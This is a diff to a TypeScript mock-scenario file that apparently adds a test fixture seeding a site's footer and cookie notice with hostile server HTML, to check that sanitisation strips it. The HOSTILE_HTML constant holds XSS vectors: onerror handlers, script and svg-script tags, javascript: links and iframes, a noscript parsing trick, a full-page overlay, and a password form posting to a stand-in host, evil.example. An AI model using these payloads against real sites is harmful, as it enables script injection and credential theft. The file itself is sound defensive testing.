@@ -20,6 +20,21 @@ export interface Scenario {
 }
 
 const everyApiCall = '*/api/v2/*';
+
+/**
+ * Markup that would run script, post a form, frame another page, cover the page or take the name of
+ * the page's own state, if any of it got through. Each attempt sets `window.hostileMarkupRan`.
+ */
+export const HOSTILE_HTML =
+  '<p id="page-state">Kept text, <a href="https://example.com/terms" target="_blank">the terms</a>.</p>' +
+  '<img src="x" onerror="window.hostileMarkupRan=1">' +
+  '<script>window.hostileMarkupRan=2</script>' +
+  '<a href="javascript:window.hostileMarkupRan=3">Run</a>' +
+  '<iframe src="javascript:parent.hostileMarkupRan=4"></iframe>' +
+  '<svg><script>window.hostileMarkupRan=5</script></svg>' +
+  '<form action="https://evil.example"><input name="password"><button>Send</button></form>' +
+  '<p style="position:fixed;inset:0" class="pos_fixed">Cover</p>' +
+  '<noscript><p title="</noscript><img src=x onerror=window.hostileMarkupRan=6>"></p></noscript>';
 const failWith = (status: number) => [
   http.all(everyApiCall, () => HttpResponse.json({ message: `Mock scenario: ${status}` }, { status })),
 ];
@@ -116,6 +131,15 @@ export const scenarios = {
     },
   },
   largeData: { label: 'Large data (thousands of rows)', db: { size: 'large' } },
+  // Server HTML that tries every way into the page; what is left must be the sanitised text alone.
+  hostileHtml: {
+    label: 'Hostile server HTML (footer and cookie notice)',
+    db: { role: 'visitor' },
+    seed: (db) => {
+      db.platform.footer.footer_text = HOSTILE_HTML;
+      db.platform.cookieDisclaimer.disclaimer_text = HOSTILE_HTML;
+    },
+  },
   // Seeded failures, some after the backend did the work: see mocks/chaos.ts.
   chaos: {
     label: 'Chaos (random 5xx, slow calls, dropped connections; seeded)',
